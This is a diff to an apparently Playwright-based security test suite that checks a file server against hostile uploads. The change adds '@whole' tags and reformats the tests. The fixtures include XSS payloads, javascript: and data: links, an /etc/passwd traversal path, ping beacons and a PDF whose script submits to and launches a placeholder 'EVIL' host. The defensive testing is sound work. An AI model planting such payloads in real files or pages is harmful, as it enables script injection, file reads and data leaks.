@@ -72,30 +72,30 @@ const PAGE_IN_BOOK = `<script>${XML_SCRIPT}</script><script src="EVIL/script.js"
 <video src="EVIL/video" poster="EVIL/poster" autoplay=""/><audio src="EVIL/audio"/><a id="body" name="documentElement" ping="EVIL/ping" href="javascript:alert(1)">run</a><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a><a href="../../../../../../etc/passwd">up</a>`
 
 test.describe('of hostile files (A5-8)', () => {
-  test('opened by its own address, no kind of page runs or calls anybody (CVE-2021-37794, CVE-2023-39612, CVE-2023-41471)', async ({
-    page,
-    served,
-    complaints,
-  }) => {
-    // What the browser says about each thing it did not do.
-    complaints.foresee(/./)
-    await withAttacker(page, async (attacker) => {
-      for (const [name, content] of Object.entries(PAGES)) await served.write(name, armed(content, attacker))
-      await signIn(page, served)
-      for (const name of Object.keys(PAGES)) {
-        await test.step(name, async () => {
-          const address = `${served.url}/api/raw/${name}?inline=true`
-          const { headers } = await headersOf(page, address)
-          expect(headers['x-content-type-options']).toBe('nosniff')
-          expect(headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
-          // From the listing, where the last one ended.
-          await openInFrame(page, address)
-          await openRaw(page, address)
-          await expectHarmless(page, served.url, attacker)
-        })
-      }
-    })
-  })
+  test(
+    'opened by its own address, no kind of page runs or calls anybody (CVE-2021-37794, CVE-2023-39612, CVE-2023-41471)',
+    { tag: '@whole' },
+    async ({ page, served, complaints }) => {
+      // What the browser says about each thing it did not do.
+      complaints.foresee(/./)
+      await withAttacker(page, async (attacker) => {
+        for (const [name, content] of Object.entries(PAGES)) await served.write(name, armed(content, attacker))
+        await signIn(page, served)
+        for (const name of Object.keys(PAGES)) {
+          await test.step(name, async () => {
+            const address = `${served.url}/api/raw/${name}?inline=true`
+            const { headers } = await headersOf(page, address)
+            expect(headers['x-content-type-options']).toBe('nosniff')
+            expect(headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
+            // From the listing, where the last one ended.
+            await openInFrame(page, address)
+            await openRaw(page, address)
+            await expectHarmless(page, served.url, attacker)
+          })
+        }
+      })
+    },
+  )
 
   test('pictures in the preview and the listing are only pictures (GHSA-mmpx-jh39-wrv6)', async ({ page, served, complaints }) => {
     complaints.foresee(/Failed to load resource|The policy forbade/)
@@ -174,7 +174,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('a PDF with JavaScript reaches neither the page nor anybody else', async ({ page, served, complaints }) => {
+  test('a PDF with JavaScript reaches neither the page nor anybody else', { tag: '@whole' }, async ({ page, served, complaints }) => {
     complaints.foresee(/The policy forbade|Content Security Policy/)
     await withAttacker(page, async (attacker) => {
       await served.write('form.pdf', armed(pdfThatRuns(`app.alert(1);this.submitForm("EVIL/pdf");app.launchURL("EVIL/launch")`), attacker))
